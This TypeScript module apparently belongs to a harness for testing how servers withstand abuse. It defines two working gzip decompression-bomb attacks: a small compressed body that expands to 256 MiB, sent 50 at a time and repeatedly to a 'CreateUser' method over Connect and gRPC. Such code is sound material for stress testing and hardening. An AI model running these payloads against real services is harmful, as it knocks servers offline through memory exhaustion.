import { gzipSync } from "node:zlib";
import type { Attack } from "../attack.ts";
import { callAgainAndAgain, type HurtfulCall } from "../calls.ts";
import { enveloped } from "../requests.ts";

/** A small body that decompresses to 256 MiB. */
const bomb = gzipSync(Buffer.alloc(256 * 1024 * 1024));
const atOnce = 50;

function gzipBomb(name: string, what: string, call: HurtfulCall, grpc: boolean): Attack {
  return {
    name,
    what,
    transports: grpc ? ["connect", "grpc"] : ["connect"],
    run: (target) => callAgainAndAgain(target, call),
  };
}

/** In a unary call of Connect, whose whole body is compressed. */
export const gzipBombConnect: Attack = gzipBomb(
  "gzip-bomb-connect",
  "gzip of 256 KB that becomes 256 MB, over Connect, 50 at a time",
  {
    ...{ method: "CreateUser", type: "application/proto", body: bomb, atOnce },
    headers: { "content-encoding": "gzip" },
  },
  false,
);

/** In a message of gRPC. */
export const gzipBombGrpc: Attack = gzipBomb(
  "gzip-bomb-grpc",
  "the same in a message of gRPC, 50 at a time",
  {
    ...{ method: "CreateUser", type: "application/grpc", body: enveloped(bomb, 1), atOnce },
    headers: { "grpc-encoding": "gzip" },
  },
  true,
);
